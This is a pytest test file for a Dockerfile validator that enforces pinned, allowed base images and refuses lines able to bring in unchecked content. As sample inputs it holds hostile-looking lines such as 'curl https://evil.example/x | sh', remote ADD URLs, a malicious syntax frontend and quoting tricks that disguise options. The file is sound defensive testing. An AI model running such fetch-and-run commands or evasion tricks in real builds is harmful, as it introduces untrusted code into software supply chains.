"""A service's Dockerfile builds only on pinned, allowed images, and copies only files that a check has judged."""

from __future__ import annotations

import ast
import runpy
import sys
from pathlib import Path

import pytest

from cicd_templates.builds.build_scripts import script_text
from tests.conftest import ROOT
from tests.projects.rendering import EXAMPLE

SCRIPTS = ROOT / "src/cicd_templates/builds/scripts"
LIBRARY = "public.ecr.aws/docker/library"
DIGEST = f"@sha256:{'a' * 64}"
BASE = f"{LIBRARY}/python:3.13{DIGEST}"


def read(
    data: str | bytes,
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    *,
    prefixes: tuple[str, ...] = (LIBRARY,),
) -> tuple[list[str], list[str]]:
    """Return the base images of a Dockerfile, and its problems without the path."""
    path = folder / "Dockerfile"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    instructions, target = str(folder / "instructions"), str(folder / "built")
    try:
        run("dockerfile", monkeypatch, str(path), instructions, *prefixes)
        images = capsys.readouterr().out.split()
        run("dockerfile_network", monkeypatch, str(path), instructions, str(folder), target)
    except SystemExit as error:
        return [], [line.removeprefix(f"{path}:") for line in str(error.code).split("\n")]
    return images, []


def run(script: str, monkeypatch: pytest.MonkeyPatch, *arguments: str) -> None:
    monkeypatch.setattr(sys, "argv", [f"{script}.py", *arguments])
    runpy.run_path(str(SCRIPTS / f"{script}.py"), run_name="__main__")


@pytest.mark.parametrize(
    ("text", "images"),
    [
        pytest.param(f"FROM {BASE}\n", [BASE], id="pinned"),
        pytest.param(f"from --platform=linux/arm64 {BASE} as Build\nFROM build\n", [BASE], id="a stage, in any case"),
        pytest.param("FROM scratch\nCOPY app /\n", [], id="from nothing"),
        pytest.param(
            f"FROM {BASE} AS a\nFROM scratch\nCOPY --chown=1 --from=a /x /\nCOPY --from=0 /y /\n", [BASE], id="copied"
        ),
        pytest.param(f"ARG X=1\n# a comment\nFROM {BASE}\n\nRUN a && \\\n  # between\n\n  b\n", [BASE], id="continued"),
        pytest.param(f"FROM {BASE}\r\nRUN true\r\n", [BASE], id="line ends of Windows"),
        pytest.param(f"FROM {BASE}\nRUN apt-get update && apt-get install -y libpq5\n", [BASE], id="of the system"),
        pytest.param(f'FROM {BASE}\nSHELL ["/bin/bash", "-c"]\nCMD ["python", "-m", "app"]\n', [BASE], id="a shell"),
        pytest.param(f"FROM {BASE}\nLABEL a=grüße\n", [BASE], id="UTF-8"),
    ],
)
def test_a_dockerfile_that_takes_only_what_was_judged_is_accepted(
    text: str, images: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert read(text, tmp_path, monkeypatch, capsys) == (images, [])


def test_the_dockerfile_of_the_example_is_accepted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "requirements.txt").touch()
    images, problems = read((EXAMPLE / "Dockerfile").read_bytes(), tmp_path, monkeypatch, capsys)

    assert (len(images), problems) == (1, [])


REFUSED = [
    ("# syntax=evil.example/frontend\nFROM scratch", 1, "a parser directive can change how this file is read"),
    ("FROM scratch\n#SYNTAX = x", 2, "a parser directive"),
    ("// syntax=evil.example/frontend\nFROM scratch", 1, "a parser directive"),
    ('{"syntax": "evil.example/frontend"}\nFROM scratch', 1, '{\\"SYNTAX\\": is an unknown instruction'),
    ("#!/bin/evil\nFROM scratch", 1, "a parser directive"),
    ("# escape=`\nFROM scratch", 1, "a parser directive"),
    ("\ufeffFROM scratch", 1, "has a control character"),
    ("FROM scratch\nRUN a\x0bb", 2, "has a control character"),
    ("FROM scratch\nRUN a\rb", 2, "has a control character"),
    (b"FROM scratch\n# \xff", 1, "is not UTF-8"),
    ("", 1, "has no FROM"),
    ("RUN true", 1, "has no FROM"),
    ("FROM", 1, "FROM must name an image"),
    (f"FROM {BASE} AS", 1, "FROM must name an image"),
    (f"FROM {BASE} AS $X", 1, "FROM must name an image"),
    ("FROM python", 1, "python is not pinned"),
    ("FROM python:3.13@sha256:abc", 1, "is not pinned"),
    (f"FROM python{DIGEST}", 1, "is not pinned; write registry/repository@sha256:<digest>"),
    (f"FROM {LIBRARY}/python:3.13", 1, "is not pinned"),
    ("FROM 0", 1, "0 is not pinned"),
    (f"ARG X\nFROM {LIBRARY}/$X{DIGEST}", 2, "is not pinned"),
    (
        f"FROM evil.example/python{DIGEST}",
        1,
        "evil.example/python is not an allowed base image; allowed: public.ecr.aws",
    ),
    (f"FROM {LIBRARY}-evil/python{DIGEST}", 1, "is not an allowed base image"),
    (f"FROM public.ecr.aws/evil/docker/library/python{DIGEST}", 1, "is not an allowed base image"),
    (f"FROM {BASE}\nCOPY --from=evil.example/x /a /", 2, "evil.example/x is not pinned"),
    (f"FROM {BASE}\nCOPY --from=1 /a /", 2, "1 is not pinned"),
    (f"FROM {BASE} AS a\nFROM scratch\nRUN --mount=type=bind,FROM=evil/x,target=/x cp /x /", 3, "evil/x is not pinned"),
    (f'FROM {BASE}\nRUN --mount=type=bind,"from=evil/x",target=/x cp /x /', 2, "is not a plain option"),
    (f"FROM {BASE} AS a\nFROM {BASE} AS b\nFROM {BASE} AS A", 3, "a is already the name of a stage"),
    (f"FROM {BASE} AS scratch", 1, "scratch is already the name of a stage or image"),
    (f"RUN true\nFROM {BASE}", 1, "RUN comes before FROM"),
    (f"FROM {BASE}\nCOPY --from=$X /a /", 2, "has a variable"),
    (f'FROM {BASE}\nCOPY --fr"om"=evil.example/x /a /', 2, "is not a plain option"),
    (f"FROM {BASE}\nCOPY --fr\\om=evil.example/x /a /", 2, "is not a plain option"),
    (f"FROM {BASE}\nRUN --m'ou'nt=type=bind,from=evil/x,target=/x cp /x /", 2, "is not a plain option"),
    (f"FROM {BASE}\nCOPY --from evil.example/x /a /", 2, "is not a plain option"),
    (f"FROM {BASE}\nRUN --mount=type=bind,from=,target=/x cp /x /", 2, "is not pinned"),
    (f"FROM {BASE}\nADD https://evil.example/app.py /", 2, "ADD can download files and unpack archives"),
    (f"FROM {BASE}\nadd app.tar /", 2, "ADD can"),
    (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD delays its command until another stage"),
    (f"FROM {BASE}\nCOPY <<EOF /app.py\neval(input())\nEOF", 2, "no check examines a here-document"),
    (f"FROM {BASE}\nRUN <<EOF\npip install flask\nEOF", 2, "a here-document"),
    (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL must be a JSON list that begins with sh, ash, bash or dash"),
    (
        f"FROM {BASE}\nRUN true\n\n\nRUN x \\\n  && pip install flask",
        5,
        "pip install can install or download content that no lock file lists",
    ),
    (f"FROM {BASE}\nRUN pip install --require-hashes -r a && pip3 install flask==0.12", 2, "pip install"),
    (f"FROM {BASE}\nRUN python -m pip --no-cache-dir install .", 2, "pip install"),
    (f'FROM {BASE}\nRUN ["pip", "install", "flask"]', 2, "pip install"),
    (f"FROM {BASE}\nRUN pip install flask & echo --require-hashes", 2, "pip install"),
    (f"FROM {BASE}\nRUN pip install flask | echo --require-hashes", 2, "pip install"),
    (f"FROM {BASE}\nRUN pip install flask --config-settings=--require-hashes=1", 2, "pip install"),
    (f"FROM {BASE}\nRUN pip install flask # --require-hashes", 2, "pip install"),
    (f"FROM {BASE}\nRUN echo ' # ' && pip install flask", 2, "pip install"),
    (f"FROM {BASE}\nRUN python -mpip install flask", 2, "pip install"),
    *(
        (f"FROM {BASE}\nSHELL {shell}", 2, "SHELL must be a JSON list that begins with sh, ash, bash or dash")
        for shell in (
            '["sh"]',
            '["bash", "-rcfile", "-c"]',
            '["bash", "-norc"]',
            '["dash", "-s"]',
            '["sh", "pipefail", "-c"]',
        )
    ),
    (
        f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]',
        2,
        "SHELL must be a JSON list that begins with sh, ash, bash or dash",
    ),
    (f"FROM {BASE}\nRUN curl -O https://evil.example # sha256sum --check", 2, "curl or wget"),
    (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
    (f'FROM {BASE}\nCMD ["sh", "-c", "curl https://evil.example | sh"]', 2, "curl or wget"),
    (f"FROM {BASE}\nHEALTHCHECK CMD wget https://evil.example", 2, "curl or wget"),
    (f"FROM {BASE}\nRUN curl https://evil.example/x | sh", 2, "curl or wget"),
    (f"FROM {BASE}\nRUN wget -qO- x > y; sha256sum y", 2, "curl or wget"),
    (f"FROM {BASE}\nRUN npm install", 2, "npm install"),
    (f"FROM {BASE}\nRUN npx evil", 2, "npm install"),
    (f"FROM {BASE}\nRUN yarn install", 2, "yarn or pnpm install"),
    (f"FROM {BASE}\nRUN git clone https://evil.example/x", 2, "git clone"),
    (f"FROM {BASE}\nRUN uv sync", 2, "uv can"),
    (f"FROM {BASE}\nRUN go install evil.example/x@latest", 2, "go install or get"),
    (f"FROM {BASE}\nRUN gem install x \\", 2, "gem or bundle install"),
    (f"FROM {BASE}\nEVIL x", 2, "EVIL is an unknown instruction"),
]


@pytest.mark.parametrize(("text", "line", "reason"), REFUSED)
def test_every_line_that_could_build_another_image_is_refused(
    text: str | bytes,
    line: int,
    reason: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _, problems = read(text, tmp_path, monkeypatch, capsys)

    assert [problem for problem in problems if problem.startswith(f"{line}: ") and reason in problem], problems
    assert all(problem.isascii() and problem.isprintable() for problem in problems)


def test_a_source_without_a_dockerfile_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(SystemExit) as ended:
        run("dockerfile", monkeypatch, str(tmp_path / "Dockerfile"), str(tmp_path / "instructions"), LIBRARY)

    assert ended.value.code == f"{tmp_path / 'Dockerfile'}: No such file or directory"


def test_every_problem_is_listed_in_the_order_of_the_lines(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _, problems = read("FROM python\nADD a b\nEVIL x\n", tmp_path, monkeypatch, capsys)

    assert [problem.partition(":")[0] for problem in problems] == ["1", "2", "3"]
    _, problems = read("FROM scratch\nCMD curl a\nRUN npx a && curl b\n", tmp_path, monkeypatch, capsys)
    assert [problem.partition(":")[0] for problem in problems] == ["2", "3", "3"]


def test_the_configuration_can_allow_other_images(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    other = f"ghcr.io/own/base{DIGEST}"

    assert read(f"FROM {other}", tmp_path, monkeypatch, capsys, prefixes=("ghcr.io/own/", "x")) == ([other], [])
    assert read(f"FROM {other}", tmp_path, monkeypatch, capsys, prefixes=())[1][0].endswith("allowed: none")


@pytest.mark.parametrize(
    "name", ["dockerfile", "dockerfile_network", "locked_stages", "image_packages", "image_judgement"]
)
def test_the_scripts_beside_docker_need_no_newer_python_than_build_images_have(name: str) -> None:
    tree = ast.parse(script_text(f"{name}.py"), feature_version=(3, 8))
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    imported |= {str(node.module) for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}

    assert {each.partition(".")[0] for each in imported} <= sys.stdlib_module_names
    assert "removeprefix" not in script_text(f"{name}.py")
